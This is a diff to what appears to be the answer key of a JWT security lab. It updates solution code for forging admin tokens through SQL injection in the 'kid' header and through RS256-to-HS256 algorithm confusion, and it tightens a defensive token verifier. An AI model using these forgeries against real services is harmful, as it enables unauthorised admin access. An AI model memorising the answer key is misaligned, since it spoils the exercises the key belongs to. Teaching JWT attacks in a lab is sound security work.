@@ -14,14 +14,18 @@ SOLUTIONS = {
             return hs256_by_hand(jwt.get_unverified_header(token), admin_claims, secret)
     """,
     "InjectTheKid": """
+        import secrets
+
         def forge(token: str) -> str:
+            secret = secrets.token_bytes(32)                  # bytes, not text: a blob literal carries them
             admin_claims = {**claims(token), "roles": ["admin"]}
-            header = {"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'my-secret' --"}
-            return hs256_by_hand(header, admin_claims, b"my-secret")
+            header = {"alg": "HS256", "typ": "at+jwt", "kid": f"x' UNION SELECT X'{secret.hex()}' --"}
+            return hs256_by_hand(header, admin_claims, secret)
     """,
     "ConfuseTheAlgorithm": """
         def forge(token: str, jwks: dict) -> str:
-            public_key = RSAAlgorithm.from_jwk(jwks["keys"][0])
+            kid = jwt.get_unverified_header(token)["kid"]          # the key the server will look up
+            public_key = RSAAlgorithm.from_jwk(next(k for k in jwks["keys"] if k["kid"] == kid))
             pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
             admin_claims = {**claims(token), "roles": ["admin"]}
             header = {**jwt.get_unverified_header(token), "alg": "HS256"}
@@ -29,13 +33,17 @@ SOLUTIONS = {
     """,
     "VerifyAgainstTheBattery": """
         def verify(token: str, lab) -> dict:
+            header = jwt.get_unverified_header(token)
+            typ = str(header.get("typ", "")).lower()                   # a media type: any case, prefix optional
+            if typ.removeprefix("application/") != "at+jwt":          # RFC 9068 §4: an access token
+                raise jwt.InvalidTokenError("not an access token")
             keys = jwt.PyJWKSet.from_dict(lab.http.get(lab.url + "/.well-known/jwks.json").json())
-            key = keys[jwt.get_unverified_header(token)["kid"]]       # only the server's own keys
+            key = keys[header["kid"]]                                 # only the server's own keys
             verified = jwt.decode(token, key, algorithms=["RS256"], audience="lab-api",
                                   issuer=lab.settings.issuer_id,
                                   options={"require": ["exp", "iss", "aud"],
                                            "verify_exp": False, "verify_iat": False})  # the lab's clock, below
-            if lab.clock.now() >= verified["exp"]:
+            if lab.clock.now() >= verified["exp"]:                   # no leeway (the course allows up to 60 s)
                 raise jwt.ExpiredSignatureError("expired by the lab clock")
             return verified
     """,
